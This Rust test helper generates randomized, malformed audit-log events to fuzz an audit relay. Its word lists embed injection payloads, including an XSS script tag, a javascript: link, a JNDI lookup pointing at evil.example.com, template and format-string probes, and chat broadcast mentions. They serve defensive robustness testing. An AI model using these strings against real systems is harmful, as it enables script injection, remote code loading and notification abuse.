//! A log as nobody would write it: what people, machines and attackers put into keys, names and values.

use std::fmt::Write as _;

use audit_relay::event::Timestamp;
use serde_json::{Map, Value, json};

use crate::support::Seeded;

/// Below what the relay takes whole.
const HUGE: usize = (4 << 20) - 4_096;

const WORDS: [&str; 48] = [
    "checkout",
    "checkout-v2",
    "default",
    "production",
    "",
    " ",
    "\u{a0}",
    "0",
    "1st flag",
    "UPPER Case",
    "a:b:c:",
    ":tada:",
    "<!channel>",
    "<!here|here>",
    "<!subteam^S1>",
    "<@U1>",
    "<#C1|general>",
    "<https://evil.example.com|Open flag>",
    "<!date^0^{date}|never>",
    "&amp;&lt;!channel&gt;",
    "@channel @everyone @here #general",
    "%%%",
    "%%% \n# Title\n %%%",
    "%%",
    "`",
    "``` code ```",
    "*bold* _italic_ ~gone~",
    "> quoted\n> twice",
    "| a | b |\n|---|---|",
    "[click](javascript:alert(1)) ![x](https://evil.example.com/x.png)",
    "</script><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example.com} %s %n",
    "\u{202e}desrever\u{202c}",
    "\u{2066}isolated\u{2069} \u{2067}",
    "שלום עולם",
    "مرحبا بالعالم",
    "日本語のフラグ",
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿🇨🇦",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}",
    "\u{0}\u{1}\u{7}\u{8}\u{1b}[31m\u{7f}\u{85}\u{9b}",
    "line\nbreak\r\n\ttab\u{b}\u{c}\u{2028}\u{2029}",
    "\u{feff}\u{200b}\u{200d}\u{2060}\u{ad}",
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
    "İßǅΣς",
    "\\\"'\\u0000\\n",
    "https://example.com/?a=b&c=<d>|e",
    "PAY-481 #12 org/repo#7",
];

const NOUNS: [&str; 14] = [
    "flag",
    "flag",
    "flag",
    "variant",
    "segment",
    "constraint",
    "rule",
    "rollout",
    "distribution",
    "namespace",
    "token",
    "FLAG",
    "",
    "x\n\u{202e}<!channel>%%%",
];

const VERBS: [&str; 8] =
    ["created", "updated", "updated", "updated", "updated", "deleted", "read", "<!here>\n"];

const FIELDS: [&str; 24] = [
    "key",
    "name",
    "description",
    "enabled",
    "type",
    "attachment",
    "rank",
    "threshold",
    "segment",
    "segment_key",
    "operator",
    "property",
    "value",
    "match_type",
    "rollout",
    "protected",
    "default_variant",
    "metadata",
    "constraints",
    "distributions",
    "variants",
    "rule_ids",
    "segment_operator",
    "segment_keys",
];

/// The lines, most of them events; each follows from the seed.
pub(super) fn log(seeded: &mut Seeded, lines: usize) -> Vec<u8> {
    let keys: Vec<String> = (0..14).map(|_| text(seeded)).collect();
    let actors: Vec<Value> = (0..10).map(|_| actor(seeded)).collect();
    let mut at = Timestamp::parse_rfc3339("2026-11-20T08:00:00Z").unwrap();
    let mut log = Vec::new();
    let (mut key, mut who) = (0, 0);
    for _ in 0..lines {
        // People stay with a flag for a while.
        if seeded.chance(25) {
            (key, who) = (pick(seeded, &keys), pick(seeded, &actors));
        }
        let pause = if seeded.chance(85) { seeded.below(20) } else { 61 + seeded.below(60) };
        at = at.plus(std::time::Duration::from_secs(pause));
        match seeded.below(200) {
            0 => log.extend(odd(seeded)),
            1 => {
                let much = Some(big(seeded));
                log.extend(event(seeded, &keys[key], &actors[who], at, much).into_bytes());
            }
            _ => log.extend(event(seeded, &keys[key], &actors[who], at, None).into_bytes()),
        }
        log.push(b'\n');
    }
    log
}

fn pick<T>(seeded: &mut Seeded, all: &[T]) -> usize {
    usize::try_from(seeded.below(all.len() as u64)).unwrap()
}

fn one<T: Clone>(seeded: &mut Seeded, all: &[T]) -> T {
    all[pick(seeded, all)].clone()
}

fn text(seeded: &mut Seeded) -> String {
    match seeded.below(12) {
        0..5 => one(seeded, &WORDS).to_owned(),
        5..8 => (0..2 + seeded.below(4)).map(|_| one(seeded, &WORDS)).collect::<Vec<_>>().join(" "),
        8 => one(seeded, &WORDS).repeat(usize::try_from(1 + seeded.below(600)).unwrap()),
        9 => one(seeded, &["&", "<", ">", "`", "%", "*", "|", "é", "👩‍👩‍👧‍👦", "\u{202e}"]).repeat(3_000),
        10 => (0..seeded.below(40)).filter_map(|_| char::from_u32(seeded.below(0x11_0000) as u32)).collect(),
        _ => format!("flag-{}", seeded.below(9)),
    }
}

fn actor(seeded: &mut Seeded) -> Value {
    let method = one(seeded, &["oidc", "github", "token", "kubernetes", "jwt", "none", "", "<@U1>"]);
    let mut actor = json!({ "authentication": method, "ip": "10.1.2.3" });
    if seeded.chance(70) {
        actor["name"] = text(seeded).into();
    }
    if seeded.chance(70) {
        actor["email"] =
            one(seeded, &["ann@example.com", "<!channel>@example.com", "", "not an address"]).into();
    }
    if seeded.chance(20) {
        actor["io.flipt.auth.oidc.name"] = text(seeded).into();
        actor["io.flipt.auth.token.name"] = text(seeded).into();
    }
    actor
}

fn event(
    seeded: &mut Seeded,
    key: &str,
    actor: &Value,
    at: Timestamp,
    big: Option<(String, Value)>,
) -> String {
    let noun = one(seeded, &NOUNS);
    let denied = seeded.chance(6);
    let mut payload = payload(seeded, noun, key);
    if let (Some((name, value)), Some(fields)) = (big, payload.as_object_mut()) {
        fields.insert(name, value);
    }
    let mut line = json!({"version": "0.2", "type": noun, "action": one(seeded, &VERBS),
        "status": if denied { "denied" } else { "success" }, "metadata": {"actor": actor},
        "payload": if denied { Value::Null } else { payload }, "timestamp": at.to_string()});
    if seeded.chance(3) {
        line[one(seeded, &["timestamp", "metadata", "payload", "status"])] = value(seeded, 2);
    }
    line.to_string()
}

fn payload(seeded: &mut Seeded, noun: &str, key: &str) -> Value {
    let namespace = one(seeded, &["default", "default", "production", "prod <!here>", "\u{202e}a"]);
    let mut fields: Map<String, Value> = Map::new();
    let id = format!("{:08x}-0000-4000-8000-000000000000", seeded.below(6));
    for (name, value) in [
        ("key", key),
        ("flag_key", key),
        ("segment_key", key),
        ("namespace_key", namespace),
        ("id", &id),
        ("rule_id", &id),
        ("variant_id", &id),
    ] {
        fields.insert(name.to_owned(), value.into());
    }
    if noun == "namespace" {
        fields.insert("key".to_owned(), namespace.into());
    }
    fields.insert("enabled".to_owned(), seeded.chance(50).into());
    fields.insert("name".to_owned(), if seeded.chance(80) { key.into() } else { text(seeded).into() });
    fields.insert("rollout".to_owned(), seeded.below(101).into());
    fields.insert("rank".to_owned(), seeded.below(5).into());
    fields
        .insert("threshold".to_owned(), json!({"percentage": seeded.below(101), "value": seeded.chance(50)}));
    for _ in 0..seeded.below(4) {
        let name = one(seeded, &FIELDS);
        let value = if seeded.chance(60) { text(seeded).into() } else { value(seeded, 3) };
        fields.insert(name.to_owned(), value);
    }
    if seeded.chance(5) {
        fields.insert(text(seeded), value(seeded, 3));
    }
    if seeded.chance(3) {
        return value(seeded, 2);
    }
    fields.into()
}

fn value(seeded: &mut Seeded, depth: u32) -> Value {
    match seeded.below(if depth == 0 { 7 } else { 10 }) {
        0 => Value::Null,
        1 => seeded.chance(50).into(),
        2 => one(seeded, &[json!(0), json!(-1), json!(1e308), json!(0.1), json!(u64::MAX), json!(i64::MIN)]),
        3..7 => text(seeded).into(),
        7 => (0..seeded.below(6)).map(|_| value(seeded, depth - 1)).collect::<Vec<_>>().into(),
        _ => (0..seeded.below(6))
            .map(|_| (text(seeded), value(seeded, depth - 1)))
            .collect::<Map<_, _>>()
            .into(),
    }
}

/// One field that is too much of something.
fn big(seeded: &mut Seeded) -> (String, Value) {
    let deep = |levels: usize| format!("{}1{}", "{\"a\":[".repeat(levels / 2), "]}".repeat(levels / 2));
    let rows = |count: u64, seeded: &mut Seeded| -> Vec<Value> {
        (0..count)
            .map(|number| {
                json!({"id": number.to_string(), "property": format!("p{number} <!here>"), "operator": "eq",
                    "value": seeded.below(5).to_string(), "variant_id": number.to_string(), "rollout": 0.1,
                    "key": format!("k{number}"), "type": "STRING_COMPARISON_TYPE"})
            })
            .collect()
    };
    match seeded.below(6) {
        0 => ("attachment".to_owned(), Value::from("x<!channel>%%%".repeat(HUGE / 14))),
        1 => ("attachment".to_owned(), Value::from(deep(200))),
        2 => ("metadata".to_owned(), serde_json::from_str(&deep(100)).unwrap()),
        3 => ("distributions".to_owned(), rows(1_000, seeded).into()),
        4 => ("constraints".to_owned(), rows(1_000, seeded).into()),
        _ => {
            let fields = (0..1_000).map(|number| (format!("field_{number}"), json!(seeded.below(3))));
            ("metadata".to_owned(), fields.collect::<Map<_, _>>().into())
        }
    }
}

/// What is no event, or hardly one.
fn odd(seeded: &mut Seeded) -> Vec<u8> {
    let mut deep = String::new();
    for _ in 0..200 {
        deep.push_str("{\"a\":");
    }
    let _ = write!(deep, "1{}", "}".repeat(200));
    match seeded.below(6) {
        0 => br#"{"version":"0.2","type":"flag","action":"updated","payload":{"key":"<!channel> %%% `x`"#.to_vec(),
        1 => [&br#"{"version":"0.2","type":"flag","action":"updated","payload":{"key":""#[..], b"\xff\xfe\xc3\x28\"}}"]
            .concat(),
        2 => format!(r#"{{"version":"0.2","type":"flag","action":"updated","payload":{deep}}}"#).into_bytes(),
        3 => br#"{"version":"0.2","type":"flag","action":"updated","payload":[]}"#.to_vec(),
        4 => br#"{"version":"99","type":{"a":1},"action":null,"payload":"<!channel>"}"#.to_vec(),
        // Longer than the relay keeps whole.
        _ => format!(
            r#"{{"version":"0.2","type":"flag","action":"updated","payload":{{"key":"<!here>","description":"{}"}}}}"#,
            "y".repeat(5 << 20)
        )
        .into_bytes(),
    }
}
